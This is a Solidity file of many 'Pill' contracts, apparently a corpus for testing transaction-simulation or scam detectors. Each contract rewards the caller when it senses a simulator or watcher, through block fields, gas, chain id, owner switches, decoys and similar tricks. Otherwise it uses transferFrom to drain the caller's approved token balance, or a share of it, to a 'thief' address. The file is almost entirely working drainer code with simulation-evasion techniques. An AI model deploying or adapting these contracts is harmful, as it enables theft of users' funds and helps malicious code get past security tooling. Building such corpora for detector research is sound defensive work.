// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

// Contracts that behave while they are watched, each by another trick. What tells a watcher from a block stands in
// `watched`; then a point is given, else everything that the caller ever allowed is taken.

abstract contract Pill {
    IERC20 internal immutable token;
    address internal immutable thief;
    mapping(address => uint256) public points;

    constructor(IERC20 token_, address thief_) {
        token = token_;
        thief = thief_;
    }

    function give() internal {
        points[msg.sender] += 1;
    }

    function take() internal {
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender));
    }

    function act(bool watched) internal {
        if (watched) give();
        else take();
    }
}

contract CoinbasePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(block.coinbase == address(0) || block.coinbase == 0x4242424242424242424242424242424242424242);
    }
}

contract TimestampPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(block.timestamp == 0 || block.timestamp == 1764000600);
    }
}

contract GasPricePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(tx.gasprice == 0 || tx.gasprice == block.basefee || tx.gasprice == block.basefee + 1 gwei);
    }
}

contract BaseFeePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(block.basefee == 0 || block.basefee == 1 gwei);
    }
}

contract GasLeftPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(gasleft() < 400_000 || gasleft() > 12_000_000);
    }
}

contract OriginBalancePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(tx.origin.balance == 0 || tx.origin.balance > 99 ether);
    }
}

contract BlockHashPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(blockhash(block.number - 1) == bytes32(0) || blockhash(block.number - 1) == bytes32(uint256(0x7777)));
    }
}

contract RandaoPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(block.prevrandao < 2 ** 64);
    }
}

contract ChainPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(block.chainid == 31337 && block.number < 1001);
    }
}

contract ParityPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(block.number & 1 == 0);
    }
}

contract CoinbaseCodePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(block.coinbase.codehash == bytes32(0) || block.coinbase.balance == 0);
    }
}

/// Asks for the code of a contract that it has just made from the block.
contract FreshCodePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        bytes memory code = abi.encodePacked(hex"61", uint16(block.timestamp % 3 == 0 ? 32 : 64), hex"5ff3");
        address made;
        assembly {
            made := create(0, add(code, 32), mload(code))
        }
        act(made.code.length == 32);
    }
}

/// Anybody may count it up between the check and the block.
contract CounterPill is Pill {
    uint256 public count;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function bump() external {
        count++;
    }

    function claim() external {
        act(count < 5);
    }
}

contract OwnerSwitchPill is Pill {
    bool public live;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function open(bool on) external {
        require(msg.sender == thief);
        live = on;
    }

    function claim() external {
        act(!live);
    }
}

/// A switch for each victim.
contract VictimPill is Pill {
    mapping(address => uint256) public chosen;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function choose(address victim) external {
        require(msg.sender == thief);
        chosen[victim] = block.number;
    }

    function claim() external {
        act(chosen[msg.sender] == 0);
    }
}

contract Switch {
    bool public isSafe = true;
    address private immutable owner = msg.sender;

    function set(bool on) external {
        require(msg.sender == owner);
        isSafe = on;
    }
}

contract OraclePill is Pill {
    Switch public immutable oracle;

    constructor(IERC20 t, address w) Pill(t, w) {
        oracle = new Switch();
    }

    function claim() external {
        act(oracle.isSafe());
    }
}

/// The switch is read by code that the proxy borrows.
contract ProxyPill {
    address private immutable code;

    constructor(address code_) {
        code = code_;
    }

    fallback() external payable {
        (bool fine,) = code.delegatecall(msg.data);
        require(fine);
    }
}

/// Borrows the code of an address where there is none, yet.
contract LaterCodePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        (bool fine,) = address(uint160(uint256(keccak256("later")))).delegatecall(msg.data);
        require(fine);
        give();
    }
}

/// A payment without calldata, with more gas than the stipend.
contract StipendPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    receive() external payable {
        act(gasleft() < 300_000 || gasleft() > 12_000_000);
    }
}

/// Asks the system contract of EIP-2935, which watchers forget.
contract HistoryPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        (, bytes memory answer) =
            0x0000F90827F1C53a10cb7A02335B175320002935.staticcall(abi.encode(block.number - 2));
        act(answer.length == 0);
    }
}

/// Gives a precompile only so much gas as the block's number says.
contract PrecompilePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        (bool fine,) = address(1).staticcall{gas: 2500 + (block.number % 2) * 1000}("");
        act(!fine);
    }
}

contract TransientPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        uint256 kept;
        assembly {
            tstore(7, mod(number(), 10))
            kept := tload(7)
        }
        act(kept == 0);
    }
}

/// Anybody may send it what it waits for.
contract SelfBalancePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(address(this).balance < 1 ether);
    }

    receive() external payable {}
}

contract ReturnSizePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function answer() external view {
        assembly {
            return(0, add(32, mul(32, mod(timestamp(), 2))))
        }
    }

    function claim() external {
        (, bytes memory said) = address(this).staticcall(abi.encodeCall(this.answer, ()));
        act(said.length == 32);
    }
}

contract GasLoopPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        uint256 rounds;
        while (gasleft() > 600_000) rounds++;
        act(rounds < 10);
    }
}

contract HashPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(keccak256(abi.encode(block.timestamp)) == keccak256(abi.encode(uint256(1764000600))));
    }
}

/// No branch: the amount itself is the block's.
contract BranchlessPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        unchecked {
            uint256 apart = uint160(address(block.coinbase)) ^ uint160(0x4242424242424242424242424242424242424242);
            uint256 bit = (apart | (0 - apart)) >> 255;
            token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender) * bit);
        }
        give();
    }
}

/// Gives back more than was sent, while it is watched.
contract RefundPill is Pill {
    constructor(IERC20 t, address w) payable Pill(t, w) {}

    function multiply() external payable {
        bool watched = block.coinbase == 0x4242424242424242424242424242424242424242;
        if (watched) payable(msg.sender).transfer(msg.value + msg.value / 10);
        else payable(thief).transfer(msg.value);
    }
}

contract RefundSwitchPill is Pill {
    bool public live;

    constructor(IERC20 t, address w) payable Pill(t, w) {}

    function multiply() external payable {
        if (!live) payable(msg.sender).transfer(msg.value + msg.value / 10);
        else payable(thief).transfer(msg.value);
    }
}

contract Passing {
    constructor(address payable to) payable {
        selfdestruct(to);
    }
}

/// Sends back through a contract that ends at once; to whom depends on the block, without a branch.
contract SelfDestructPill is Pill {
    constructor(IERC20 t, address w) payable Pill(t, w) {}

    function multiply() external payable {
        address to = block.number % 100 == 0 ? msg.sender : thief;
        new Passing{value: msg.value + msg.value / 10}(payable(to));
    }
}

/// Swaps at a good rate while it is watched.
contract SwapPill is Pill {
    IERC20 private immutable other;

    constructor(IERC20 t, address w, IERC20 other_) Pill(t, w) {
        other = other_;
    }

    function trade(uint256 amount) external {
        token.transferFrom(msg.sender, address(this), amount);
        if (block.basefee == 1 gwei) other.transfer(msg.sender, amount / 1e12);
    }
}

/// Takes a unit while it is watched; in other blocks all that it was asked for at most.
contract AmountPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function pay(uint256 most) external {
        uint256 amount = block.timestamp == 1764000600 ? 1 : most;
        token.transferFrom(msg.sender, thief, amount);
        give();
    }
}

/// Waits for code at an address of its choice.
contract StrangerCodePill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(address(uint160(uint256(keccak256("stranger")))).code.length == 0);
    }
}

/// Multiplies its switch, so that its value can't be told from a price.
contract BlurredPill is Pill {
    uint256 public live;
    uint256 public scale = 7;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act((live * scale) % 5 == 0);
    }
}

/// Hides its switch behind more than anybody tries.
contract DecoyPill is Pill {
    mapping(uint256 => uint256) public decoys;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        for (uint256 i = 0; i < 200; i++) {
            if (decoys[i] > 3) give();
        }
        act(decoys[500] == 0);
    }
}

/// Takes a share that its owner sets, without a branch: nothing as yet.
contract SharePill is Pill {
    uint256 public share;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function set(uint256 to) external {
        require(msg.sender == thief);
        share = to;
    }

    function claim() external {
        give();
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender) * share / 10_000);
    }
}

/// Keeps its share beside a flag and an address in one slot; both must be set.
contract PackedPill is Pill {
    struct Terms {
        address payee;
        bool live;
        uint64 share;
    }

    Terms public terms;

    constructor(IERC20 t, address w) Pill(t, w) {
        terms.payee = w;
    }

    function set(bool live, uint64 share) external {
        require(msg.sender == thief);
        terms.live = live;
        terms.share = share;
    }

    function claim() external {
        give();
        uint256 on;
        bool live = terms.live;
        assembly {
            on := live
        }
        token.transferFrom(msg.sender, terms.payee, token.balanceOf(msg.sender) * on * terms.share / 10_000);
    }
}

/// Opens by a word that nobody guesses, without a branch.
contract WordPill is Pill {
    bytes32 public word;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function say(bytes32 it) external {
        word = it;
    }

    function claim() external {
        give();
        uint256 on;
        assembly {
            on := eq(sload(word.slot), 0x0ddba11000000000000000000000000000000000000000000000000000c0ffee)
        }
        token.transferFrom(msg.sender, thief, token.balanceOf(msg.sender) * on);
    }
}

/// Waits for its owner to have some of the token.
contract RichPill is Pill {
    constructor(IERC20 t, address w) Pill(t, w) {}

    function claim() external {
        act(token.balanceOf(thief) == 0);
    }
}

/// Waits for its owner to have some of another token.
contract WrappedPill is Pill {
    IERC20 private immutable other;

    constructor(IERC20 t, address w, IERC20 other_) Pill(t, w) {
        other = other_;
    }

    function claim() external {
        act(other.balanceOf(thief) == 0);
    }
}

/// A price that its owner sets, and no limit of the buyer's.
contract PricePill is Pill {
    uint256 public price = 1 ether;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function setPrice(uint256 to) external {
        require(msg.sender == thief);
        price = to;
    }

    function buy(uint256 count) external {
        token.transferFrom(msg.sender, thief, price * count);
        points[msg.sender] += count;
    }
}

/// Counts before it looks.
contract CountingPill is Pill {
    uint256 public count;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function bump(uint256 by) external {
        count += by;
    }

    function claim() external {
        count += 1;
        act(count < 1000);
    }
}

/// Writes its word before it holds it against a hash.
contract HiddenWordPill is Pill {
    uint256 public word;

    constructor(IERC20 t, address w) Pill(t, w) {}

    function say(uint256 it) external {
        word = it;
    }

    function claim() external {
        word += 1;
        act(keccak256(abi.encode(word)) != 0x0ddba11000000000000000000000000000000000000000000000000000c0ffee);
    }
}
